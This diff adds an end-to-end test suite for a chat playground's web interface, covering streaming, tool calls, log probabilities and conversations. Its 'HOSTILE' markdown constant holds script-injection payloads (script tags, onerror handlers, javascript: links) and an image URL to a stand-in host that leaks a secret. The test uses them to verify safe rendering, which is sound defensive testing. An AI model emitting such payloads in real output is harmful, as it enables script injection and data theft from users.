@@ -1,0 +1,302 @@
+import { describe, expect, it } from 'vitest'
+import { findViolations } from '../harness/axe.ts'
+import { toast } from '../harness/people.ts'
+import type { Playground } from '../harness/start-playground.ts'
+
+export function playgroundAnswers(playground: Playground): void {
+  const { page, device } = playground
+
+  describe('a response', () => {
+    it('appears as it streams, and shows its timing and usage', async () => {
+      await playground.open()
+      const rest = Promise.withResolvers<void>()
+      device.plan = { text: ['One ', 'two ', 'three'], stall: { at: 2, until: rest.promise } }
+      await playground.say('Count')
+      const answer = playground.answers.last()
+      await answer.getByText('One two').waitFor()
+      expect(await answer.getAttribute('aria-busy')).toBe('true')
+      rest.resolve()
+      await answer.getByText('One two three').waitFor()
+      await answer.getByText('Complete').waitFor()
+      const facts = await answer.locator('dt').allInnerTexts()
+      expect(facts).toStrictEqual(['Time to first token', 'Speed', 'Total', 'Tokens'])
+      await answer.getByText('1 in, 3 out').waitFor()
+    })
+
+    it('appears all at once if streaming is off', async () => {
+      await playground.open()
+      await page.getByLabel('Stream the response').uncheck()
+      const called = page.waitForRequest('**/openai/v1/chat/completions')
+      const answer = await playground.ask({ text: ['All ', 'of it'] })
+      expect((await called).postDataJSON()).not.toHaveProperty('stream')
+      await answer.getByText('All of it').waitFor()
+      expect(await answer.locator('dt').allInnerTexts()).not.toContain('Time to first token')
+    })
+
+    it.each(['button', 'Escape'] as const)('is stopped by %s, also on the device, and keeps its text', async (way) => {
+      await playground.open()
+      device.plan = { text: ['Half ', 'of it'], stall: { at: 1, until: new Promise(() => {}) } }
+      await playground.say('Begin')
+      const answer = playground.answers.last()
+      await answer.getByText('Half').waitFor()
+      await (way === 'button' ? page.getByRole('button', { name: 'Stop' }).click() : page.keyboard.press('Escape'))
+      await answer.getByText('Stopped.').waitFor()
+      const job = device.jobs.at(-1)!
+      await device.until('the job is cancelled', () => job.state === 'cancelled')
+      await playground.ask({ text: 'More' }, 'Go on')
+      expect(playground.lastMessages).toStrictEqual(['Begin', 'Half ', 'Go on'])
+    })
+
+    it('is regenerated with the current settings', async () => {
+      await playground.open()
+      await playground.ask({ text: 'First try' })
+      await page.getByLabel('Temperature').fill('0')
+      device.plan = { text: 'Second try' }
+      await page.getByRole('button', { name: 'Retry' }).click()
+      await playground.answers.getByText('Second try').waitFor()
+      expect(await playground.answers.count()).toBe(1)
+      expect(playground.lastRequest).toMatchObject({ temperature: 0, messages: [{ content: 'Hi' }] })
+    })
+
+    it('is replaced when you edit the message before it', async () => {
+      await playground.open()
+      await playground.ask({ text: 'One' }, 'First')
+      await playground.ask({ text: 'Two' }, 'Second')
+      await page.getByRole('button', { name: 'Edit message' }).last().click()
+      await page.getByLabel('Message', { exact: true }).fill('Other')
+      device.plan = { text: 'Three' }
+      await page.getByRole('button', { name: 'Send again' }).click()
+      await playground.answers.getByText('Three').waitFor()
+      expect(playground.lastMessages).toStrictEqual(['First', 'One', 'Other'])
+    })
+
+    it('is requested with Enter, while Shift+Enter adds a line', async () => {
+      await playground.open()
+      const field = page.getByLabel('Your message')
+      await field.pressSequentially('One')
+      await field.press('Shift+Enter')
+      await field.pressSequentially('two')
+      await field.press('Enter')
+      await playground.answers.getByText('Complete').waitFor()
+      expect(playground.lastRequest.messages).toMatchObject([{ content: 'One\ntwo' }])
+      await expect.poll(async () => field.inputValue()).toBe('')
+    })
+
+    it('is cleared, and comes back with Undo', async () => {
+      await playground.open()
+      await playground.ask({ text: 'Precious' })
+      await page.getByRole('button', { name: 'Clear' }).click()
+      await toast(page, 'Conversation cleared')
+      await expect.poll(async () => playground.answers.count()).toBe(0)
+      await page.getByRole('button', { name: 'Undo' }).click()
+      await playground.answers.getByText('Precious').waitFor()
+    })
+
+    it('survives a visit to another page, but not a reload', async () => {
+      await playground.open()
+      await playground.ask({ text: 'Still here' })
+      await page.getByRole('link', { name: 'Models' }).first().click()
+      await page.getByRole('heading', { name: 'Models', exact: true }).waitFor()
+      await page.getByRole('link', { name: 'Playground' }).first().click()
+      await playground.answers.getByText('Still here').waitFor()
+      await page.reload()
+      await page.getByText('Send a message to start').waitFor()
+    })
+
+    it('goes on while you look at another page', async () => {
+      await playground.open()
+      const rest = Promise.withResolvers<void>()
+      device.plan = { text: ['Meanwhile ', 'finished'], stall: { at: 1, until: rest.promise } }
+      await playground.say('Begin')
+      await playground.answers.getByText('Meanwhile').waitFor()
+      await page.getByRole('link', { name: 'Models' }).first().click()
+      await page.getByRole('heading', { name: 'Models', exact: true }).waitFor()
+      rest.resolve()
+      const job = device.jobs.at(-1)!
+      await device.until('the job has ended', () => job.state === 'ended')
+      await page.getByRole('link', { name: 'Playground' }).first().click()
+      await playground.answers.getByText('Meanwhile finished').waitFor()
+      await playground.answers.getByText('Complete').waitFor()
+    })
+
+    it('keeps its text when the device fails, and shows the error', async () => {
+      await playground.open()
+      device.plan = { text: ['Half an ', 'answer'], failure: { at: 1, message: 'Out of memory' } }
+      await playground.say('Hi')
+      const answer = playground.answers.last()
+      await answer.getByText('Half an').waitFor()
+      await answer.getByRole('alert').getByText('server_error').waitFor()
+      expect(await findViolations(page)).toStrictEqual([])
+      await playground.ask({ text: 'Whole' }, 'Again')
+      expect(playground.lastMessages).toStrictEqual(['Hi', 'Again'])
+    })
+
+    it('shows the message, status, code and param of an API error', async () => {
+      await playground.open('plain')
+      await playground.openSettings('Advanced sampling')
+      await page.getByLabel('Choices (n)').fill('2')
+      await playground.say('Hi')
+      const problem = playground.answers.last().getByRole('alert')
+      await problem.getByText(/No device that serves this model supports 'n'/).waitFor()
+      expect(await problem.locator('code').allInnerTexts()).toStrictEqual(['400', 'unsupported_by_node', 'n'])
+    })
+
+    it('shows tool calls, and takes the results you enter', async () => {
+      await playground.open()
+      await playground.openSettings('Tools')
+      await page.getByRole('button', { name: 'Use sample' }).click()
+      const answer = await playground.ask({ calls: 'first-tool' }, 'Weather in Oslo?')
+      await answer.getByText('"city": "Oslo"').waitFor()
+      expect(await findViolations(page)).toStrictEqual([])
+      await page.getByLabel('Result of get_weather').fill('{"celsius": 21}')
+      device.plan = { text: 'It is warm.' }
+      await page.getByRole('button', { name: 'Send results' }).click()
+      await playground.answers.last().getByText('It is warm.').waitFor()
+      expect(playground.lastRequest.messages.slice(1)).toMatchObject([
+        { role: 'assistant', toolCalls: [{ name: 'get_weather', arguments: '{"city":"Oslo"}' }] },
+        { role: 'tool', content: '{"celsius": 21}', toolCallId: 'call_000000000000000000000001' },
+      ])
+    })
+
+    it('shows choices side by side, and continues with the selected one', async () => {
+      await playground.open()
+      await playground.openSettings('Advanced sampling')
+      await page.getByLabel('Choices (n)').fill('3')
+      const answer = await playground.ask({ text: 'Same' })
+      await answer.getByRole('region', { name: 'Choice 3' }).getByText('Complete').waitFor()
+      const boxes = await answer
+        .getByRole('region')
+        .evaluateAll((all) => all.map((one) => one.getBoundingClientRect().top))
+      expect(boxes[0]).toBe(boxes[1])
+      await answer.getByRole('region', { name: 'Choice 2' }).getByRole('radio').check()
+      await page.getByLabel('Choices (n)').fill('')
+      await playground.ask({ text: 'Next' })
+      expect(playground.lastMessages).toStrictEqual(['Hi', 'Same', 'Hi'])
+    })
+
+    it('colors tokens by probability, with alternatives for mouse and keyboard', async () => {
+      await playground.open()
+      await playground.openSettings('Log probabilities')
+      await page.getByLabel('Log probabilities').check()
+      const answer = await playground.ask({ text: ['One', ' two'] })
+      const card = answer.locator('.token-card')
+      await answer.locator('.token').first().hover()
+      expect((await card.innerText()).split('\n').slice(0, 2)).toStrictEqual(['"One"', '77.9%'])
+      await page.mouse.move(0, 0)
+      await card.waitFor({ state: 'detached' })
+      await answer.getByRole('application').focus()
+      await page.keyboard.press('End')
+      await card.getByText('" two"').first().waitFor()
+      await page.keyboard.press('ArrowLeft')
+      await card.getByText('"One"').first().waitFor()
+      expect(await findViolations(page)).toStrictEqual([])
+      await page.getByRole('button', { name: 'Plain text' }).click()
+      await answer.getByText('One two').waitFor()
+    })
+
+    it('[Q53] lists its sources, and asks before it opens one', async () => {
+      await playground.open()
+      await playground.openSettings('Log probabilities')
+      await page.getByLabel('Web search').check()
+      const annotations = [{ url: 'https://example.com/a?b=c', title: 'The example', start: 0, end: 5 }]
+      const answer = await playground.ask({ text: 'Found.', annotations })
+      await answer.getByRole('button', { name: 'The example' }).click()
+      const dialog = page.getByRole('dialog')
+      await dialog.getByText('https://example.com/a?b=c').waitFor()
+      const link = dialog.getByRole('link')
+      expect([await link.getAttribute('rel'), await link.getAttribute('target')]).toStrictEqual([
+        'noopener noreferrer',
+        '_blank',
+      ])
+      await dialog.getByRole('button', { name: 'Stay here' }).click()
+      await dialog.waitFor({ state: 'detached' })
+    })
+  })
+
+  const HOSTILE = `# Title <b>bold?</b>
+
+<script>document.title = 'run'</script><img src=x onerror="document.title='run'">
+
+![alt text](https://evil.example/leak?secret=1) ![](/api/v1/me)
+
+[friendly](https://evil.example/) [run](javascript:alert(1)) [data](data:text/html,<script>1</script>) <https://evil.example/auto>
+
+<iframe src="https://evil.example"></iframe> \u202Eevil\u202C \u0007 \u200B
+
+\`\`\`html
+<script>code()</script>
+\`\`\`
+
+| table |
+|---|
+| ![x](https://evil.example/cell) |
+
+- [x] <u>done</u>
+
+#### Far below
+
+A note[^1].
+
+[^1]: The text of the note.
+`
+
+  describe('model output', () => {
+    it('[Q53] runs nothing, loads nothing and opens nothing', async () => {
+      await playground.open()
+      const answer = await playground.ask({ text: HOSTILE })
+      await answer.getByRole('heading', { name: 'Title <b>bold?</b>' }).waitFor()
+      await answer.getByRole('heading', { name: 'Far below' }).waitFor()
+      expect(await answer.locator('script, img, iframe, a, u, b').count()).toBe(0)
+      await answer.getByText('Image: alt text (https://evil.example/leak?secret=1)').waitFor()
+      expect(await answer.getByRole('button', { name: 'run' }).count()).toBe(0)
+      await answer.getByRole('button', { name: 'friendly' }).click()
+      await page.getByRole('dialog').getByText('https://evil.example/').waitFor()
+      await page.keyboard.press('Escape')
+      await expect.poll(async () => page.title()).toBe('Playground · Hearth')
+      expect(await findViolations(page)).toStrictEqual([])
+    })
+
+    it('copies code verbatim', async () => {
+      await playground.open()
+      const answer = await playground.ask({ text: HOSTILE })
+      await answer.getByRole('button', { name: 'Copy code' }).click()
+      await expect.poll(async () => page.evaluate('navigator.clipboard.readText()')).toBe('<script>code()</script>')
+      await page.getByRole('button', { name: 'Plain text' }).click()
+      await answer.getByText('<script>document.title').waitFor()
+    })
+
+    it('is complete, however long', async () => {
+      await playground.open()
+      const paragraphs = Array.from({ length: 1500 }, (_, index) => `Paragraph **${index}** of many.\n\n`)
+      const answer = await playground.ask({ text: paragraphs, tokensPerMessage: 5 })
+      await answer.getByText('Paragraph 1499 of many.').waitFor()
+      expect(await answer.locator('p', { hasText: 'of many.' }).count()).toBe(1500)
+      expect(
+        await page.evaluate('window.scrollY + window.innerHeight >= document.documentElement.scrollHeight - 200'),
+      ).toBe(true)
+    })
+  })
+
+  describe('conversations', () => {
+    it('[Q46n] are listed under their first question, go on in the background, and stay in memory', async () => {
+      await playground.open()
+      const rest = Promise.withResolvers<void>()
+      device.plan = { text: ['Slowly ', 'done'], stall: { at: 1, until: rest.promise } }
+      await playground.say('First topic')
+      await playground.answers.getByText('Slowly').waitFor()
+      await page.getByRole('button', { name: 'New conversation' }).click()
+      await page.getByText('Send a message to start').waitFor()
+      await playground.ask({ text: 'Other' }, 'Second topic')
+      rest.resolve()
+      await page.getByRole('button', { name: /^Conversations/ }).click()
+      const list = page.getByRole('dialog', { name: 'Conversations' })
+      await list.getByRole('button', { name: /^First topic\s*1 message/ }).waitFor()
+      expect(await findViolations(page)).toStrictEqual([])
+      await list.getByRole('button', { name: /^First topic/ }).click()
+      await playground.answers.getByText('Slowly done').waitFor()
+      expect(await playground.answers.getByText('Other').count()).toBe(0)
+      const kept = await page.evaluate('JSON.stringify([localStorage, sessionStorage, location.href])')
+      expect(kept).not.toContain('topic')
+    })
+  })
+}
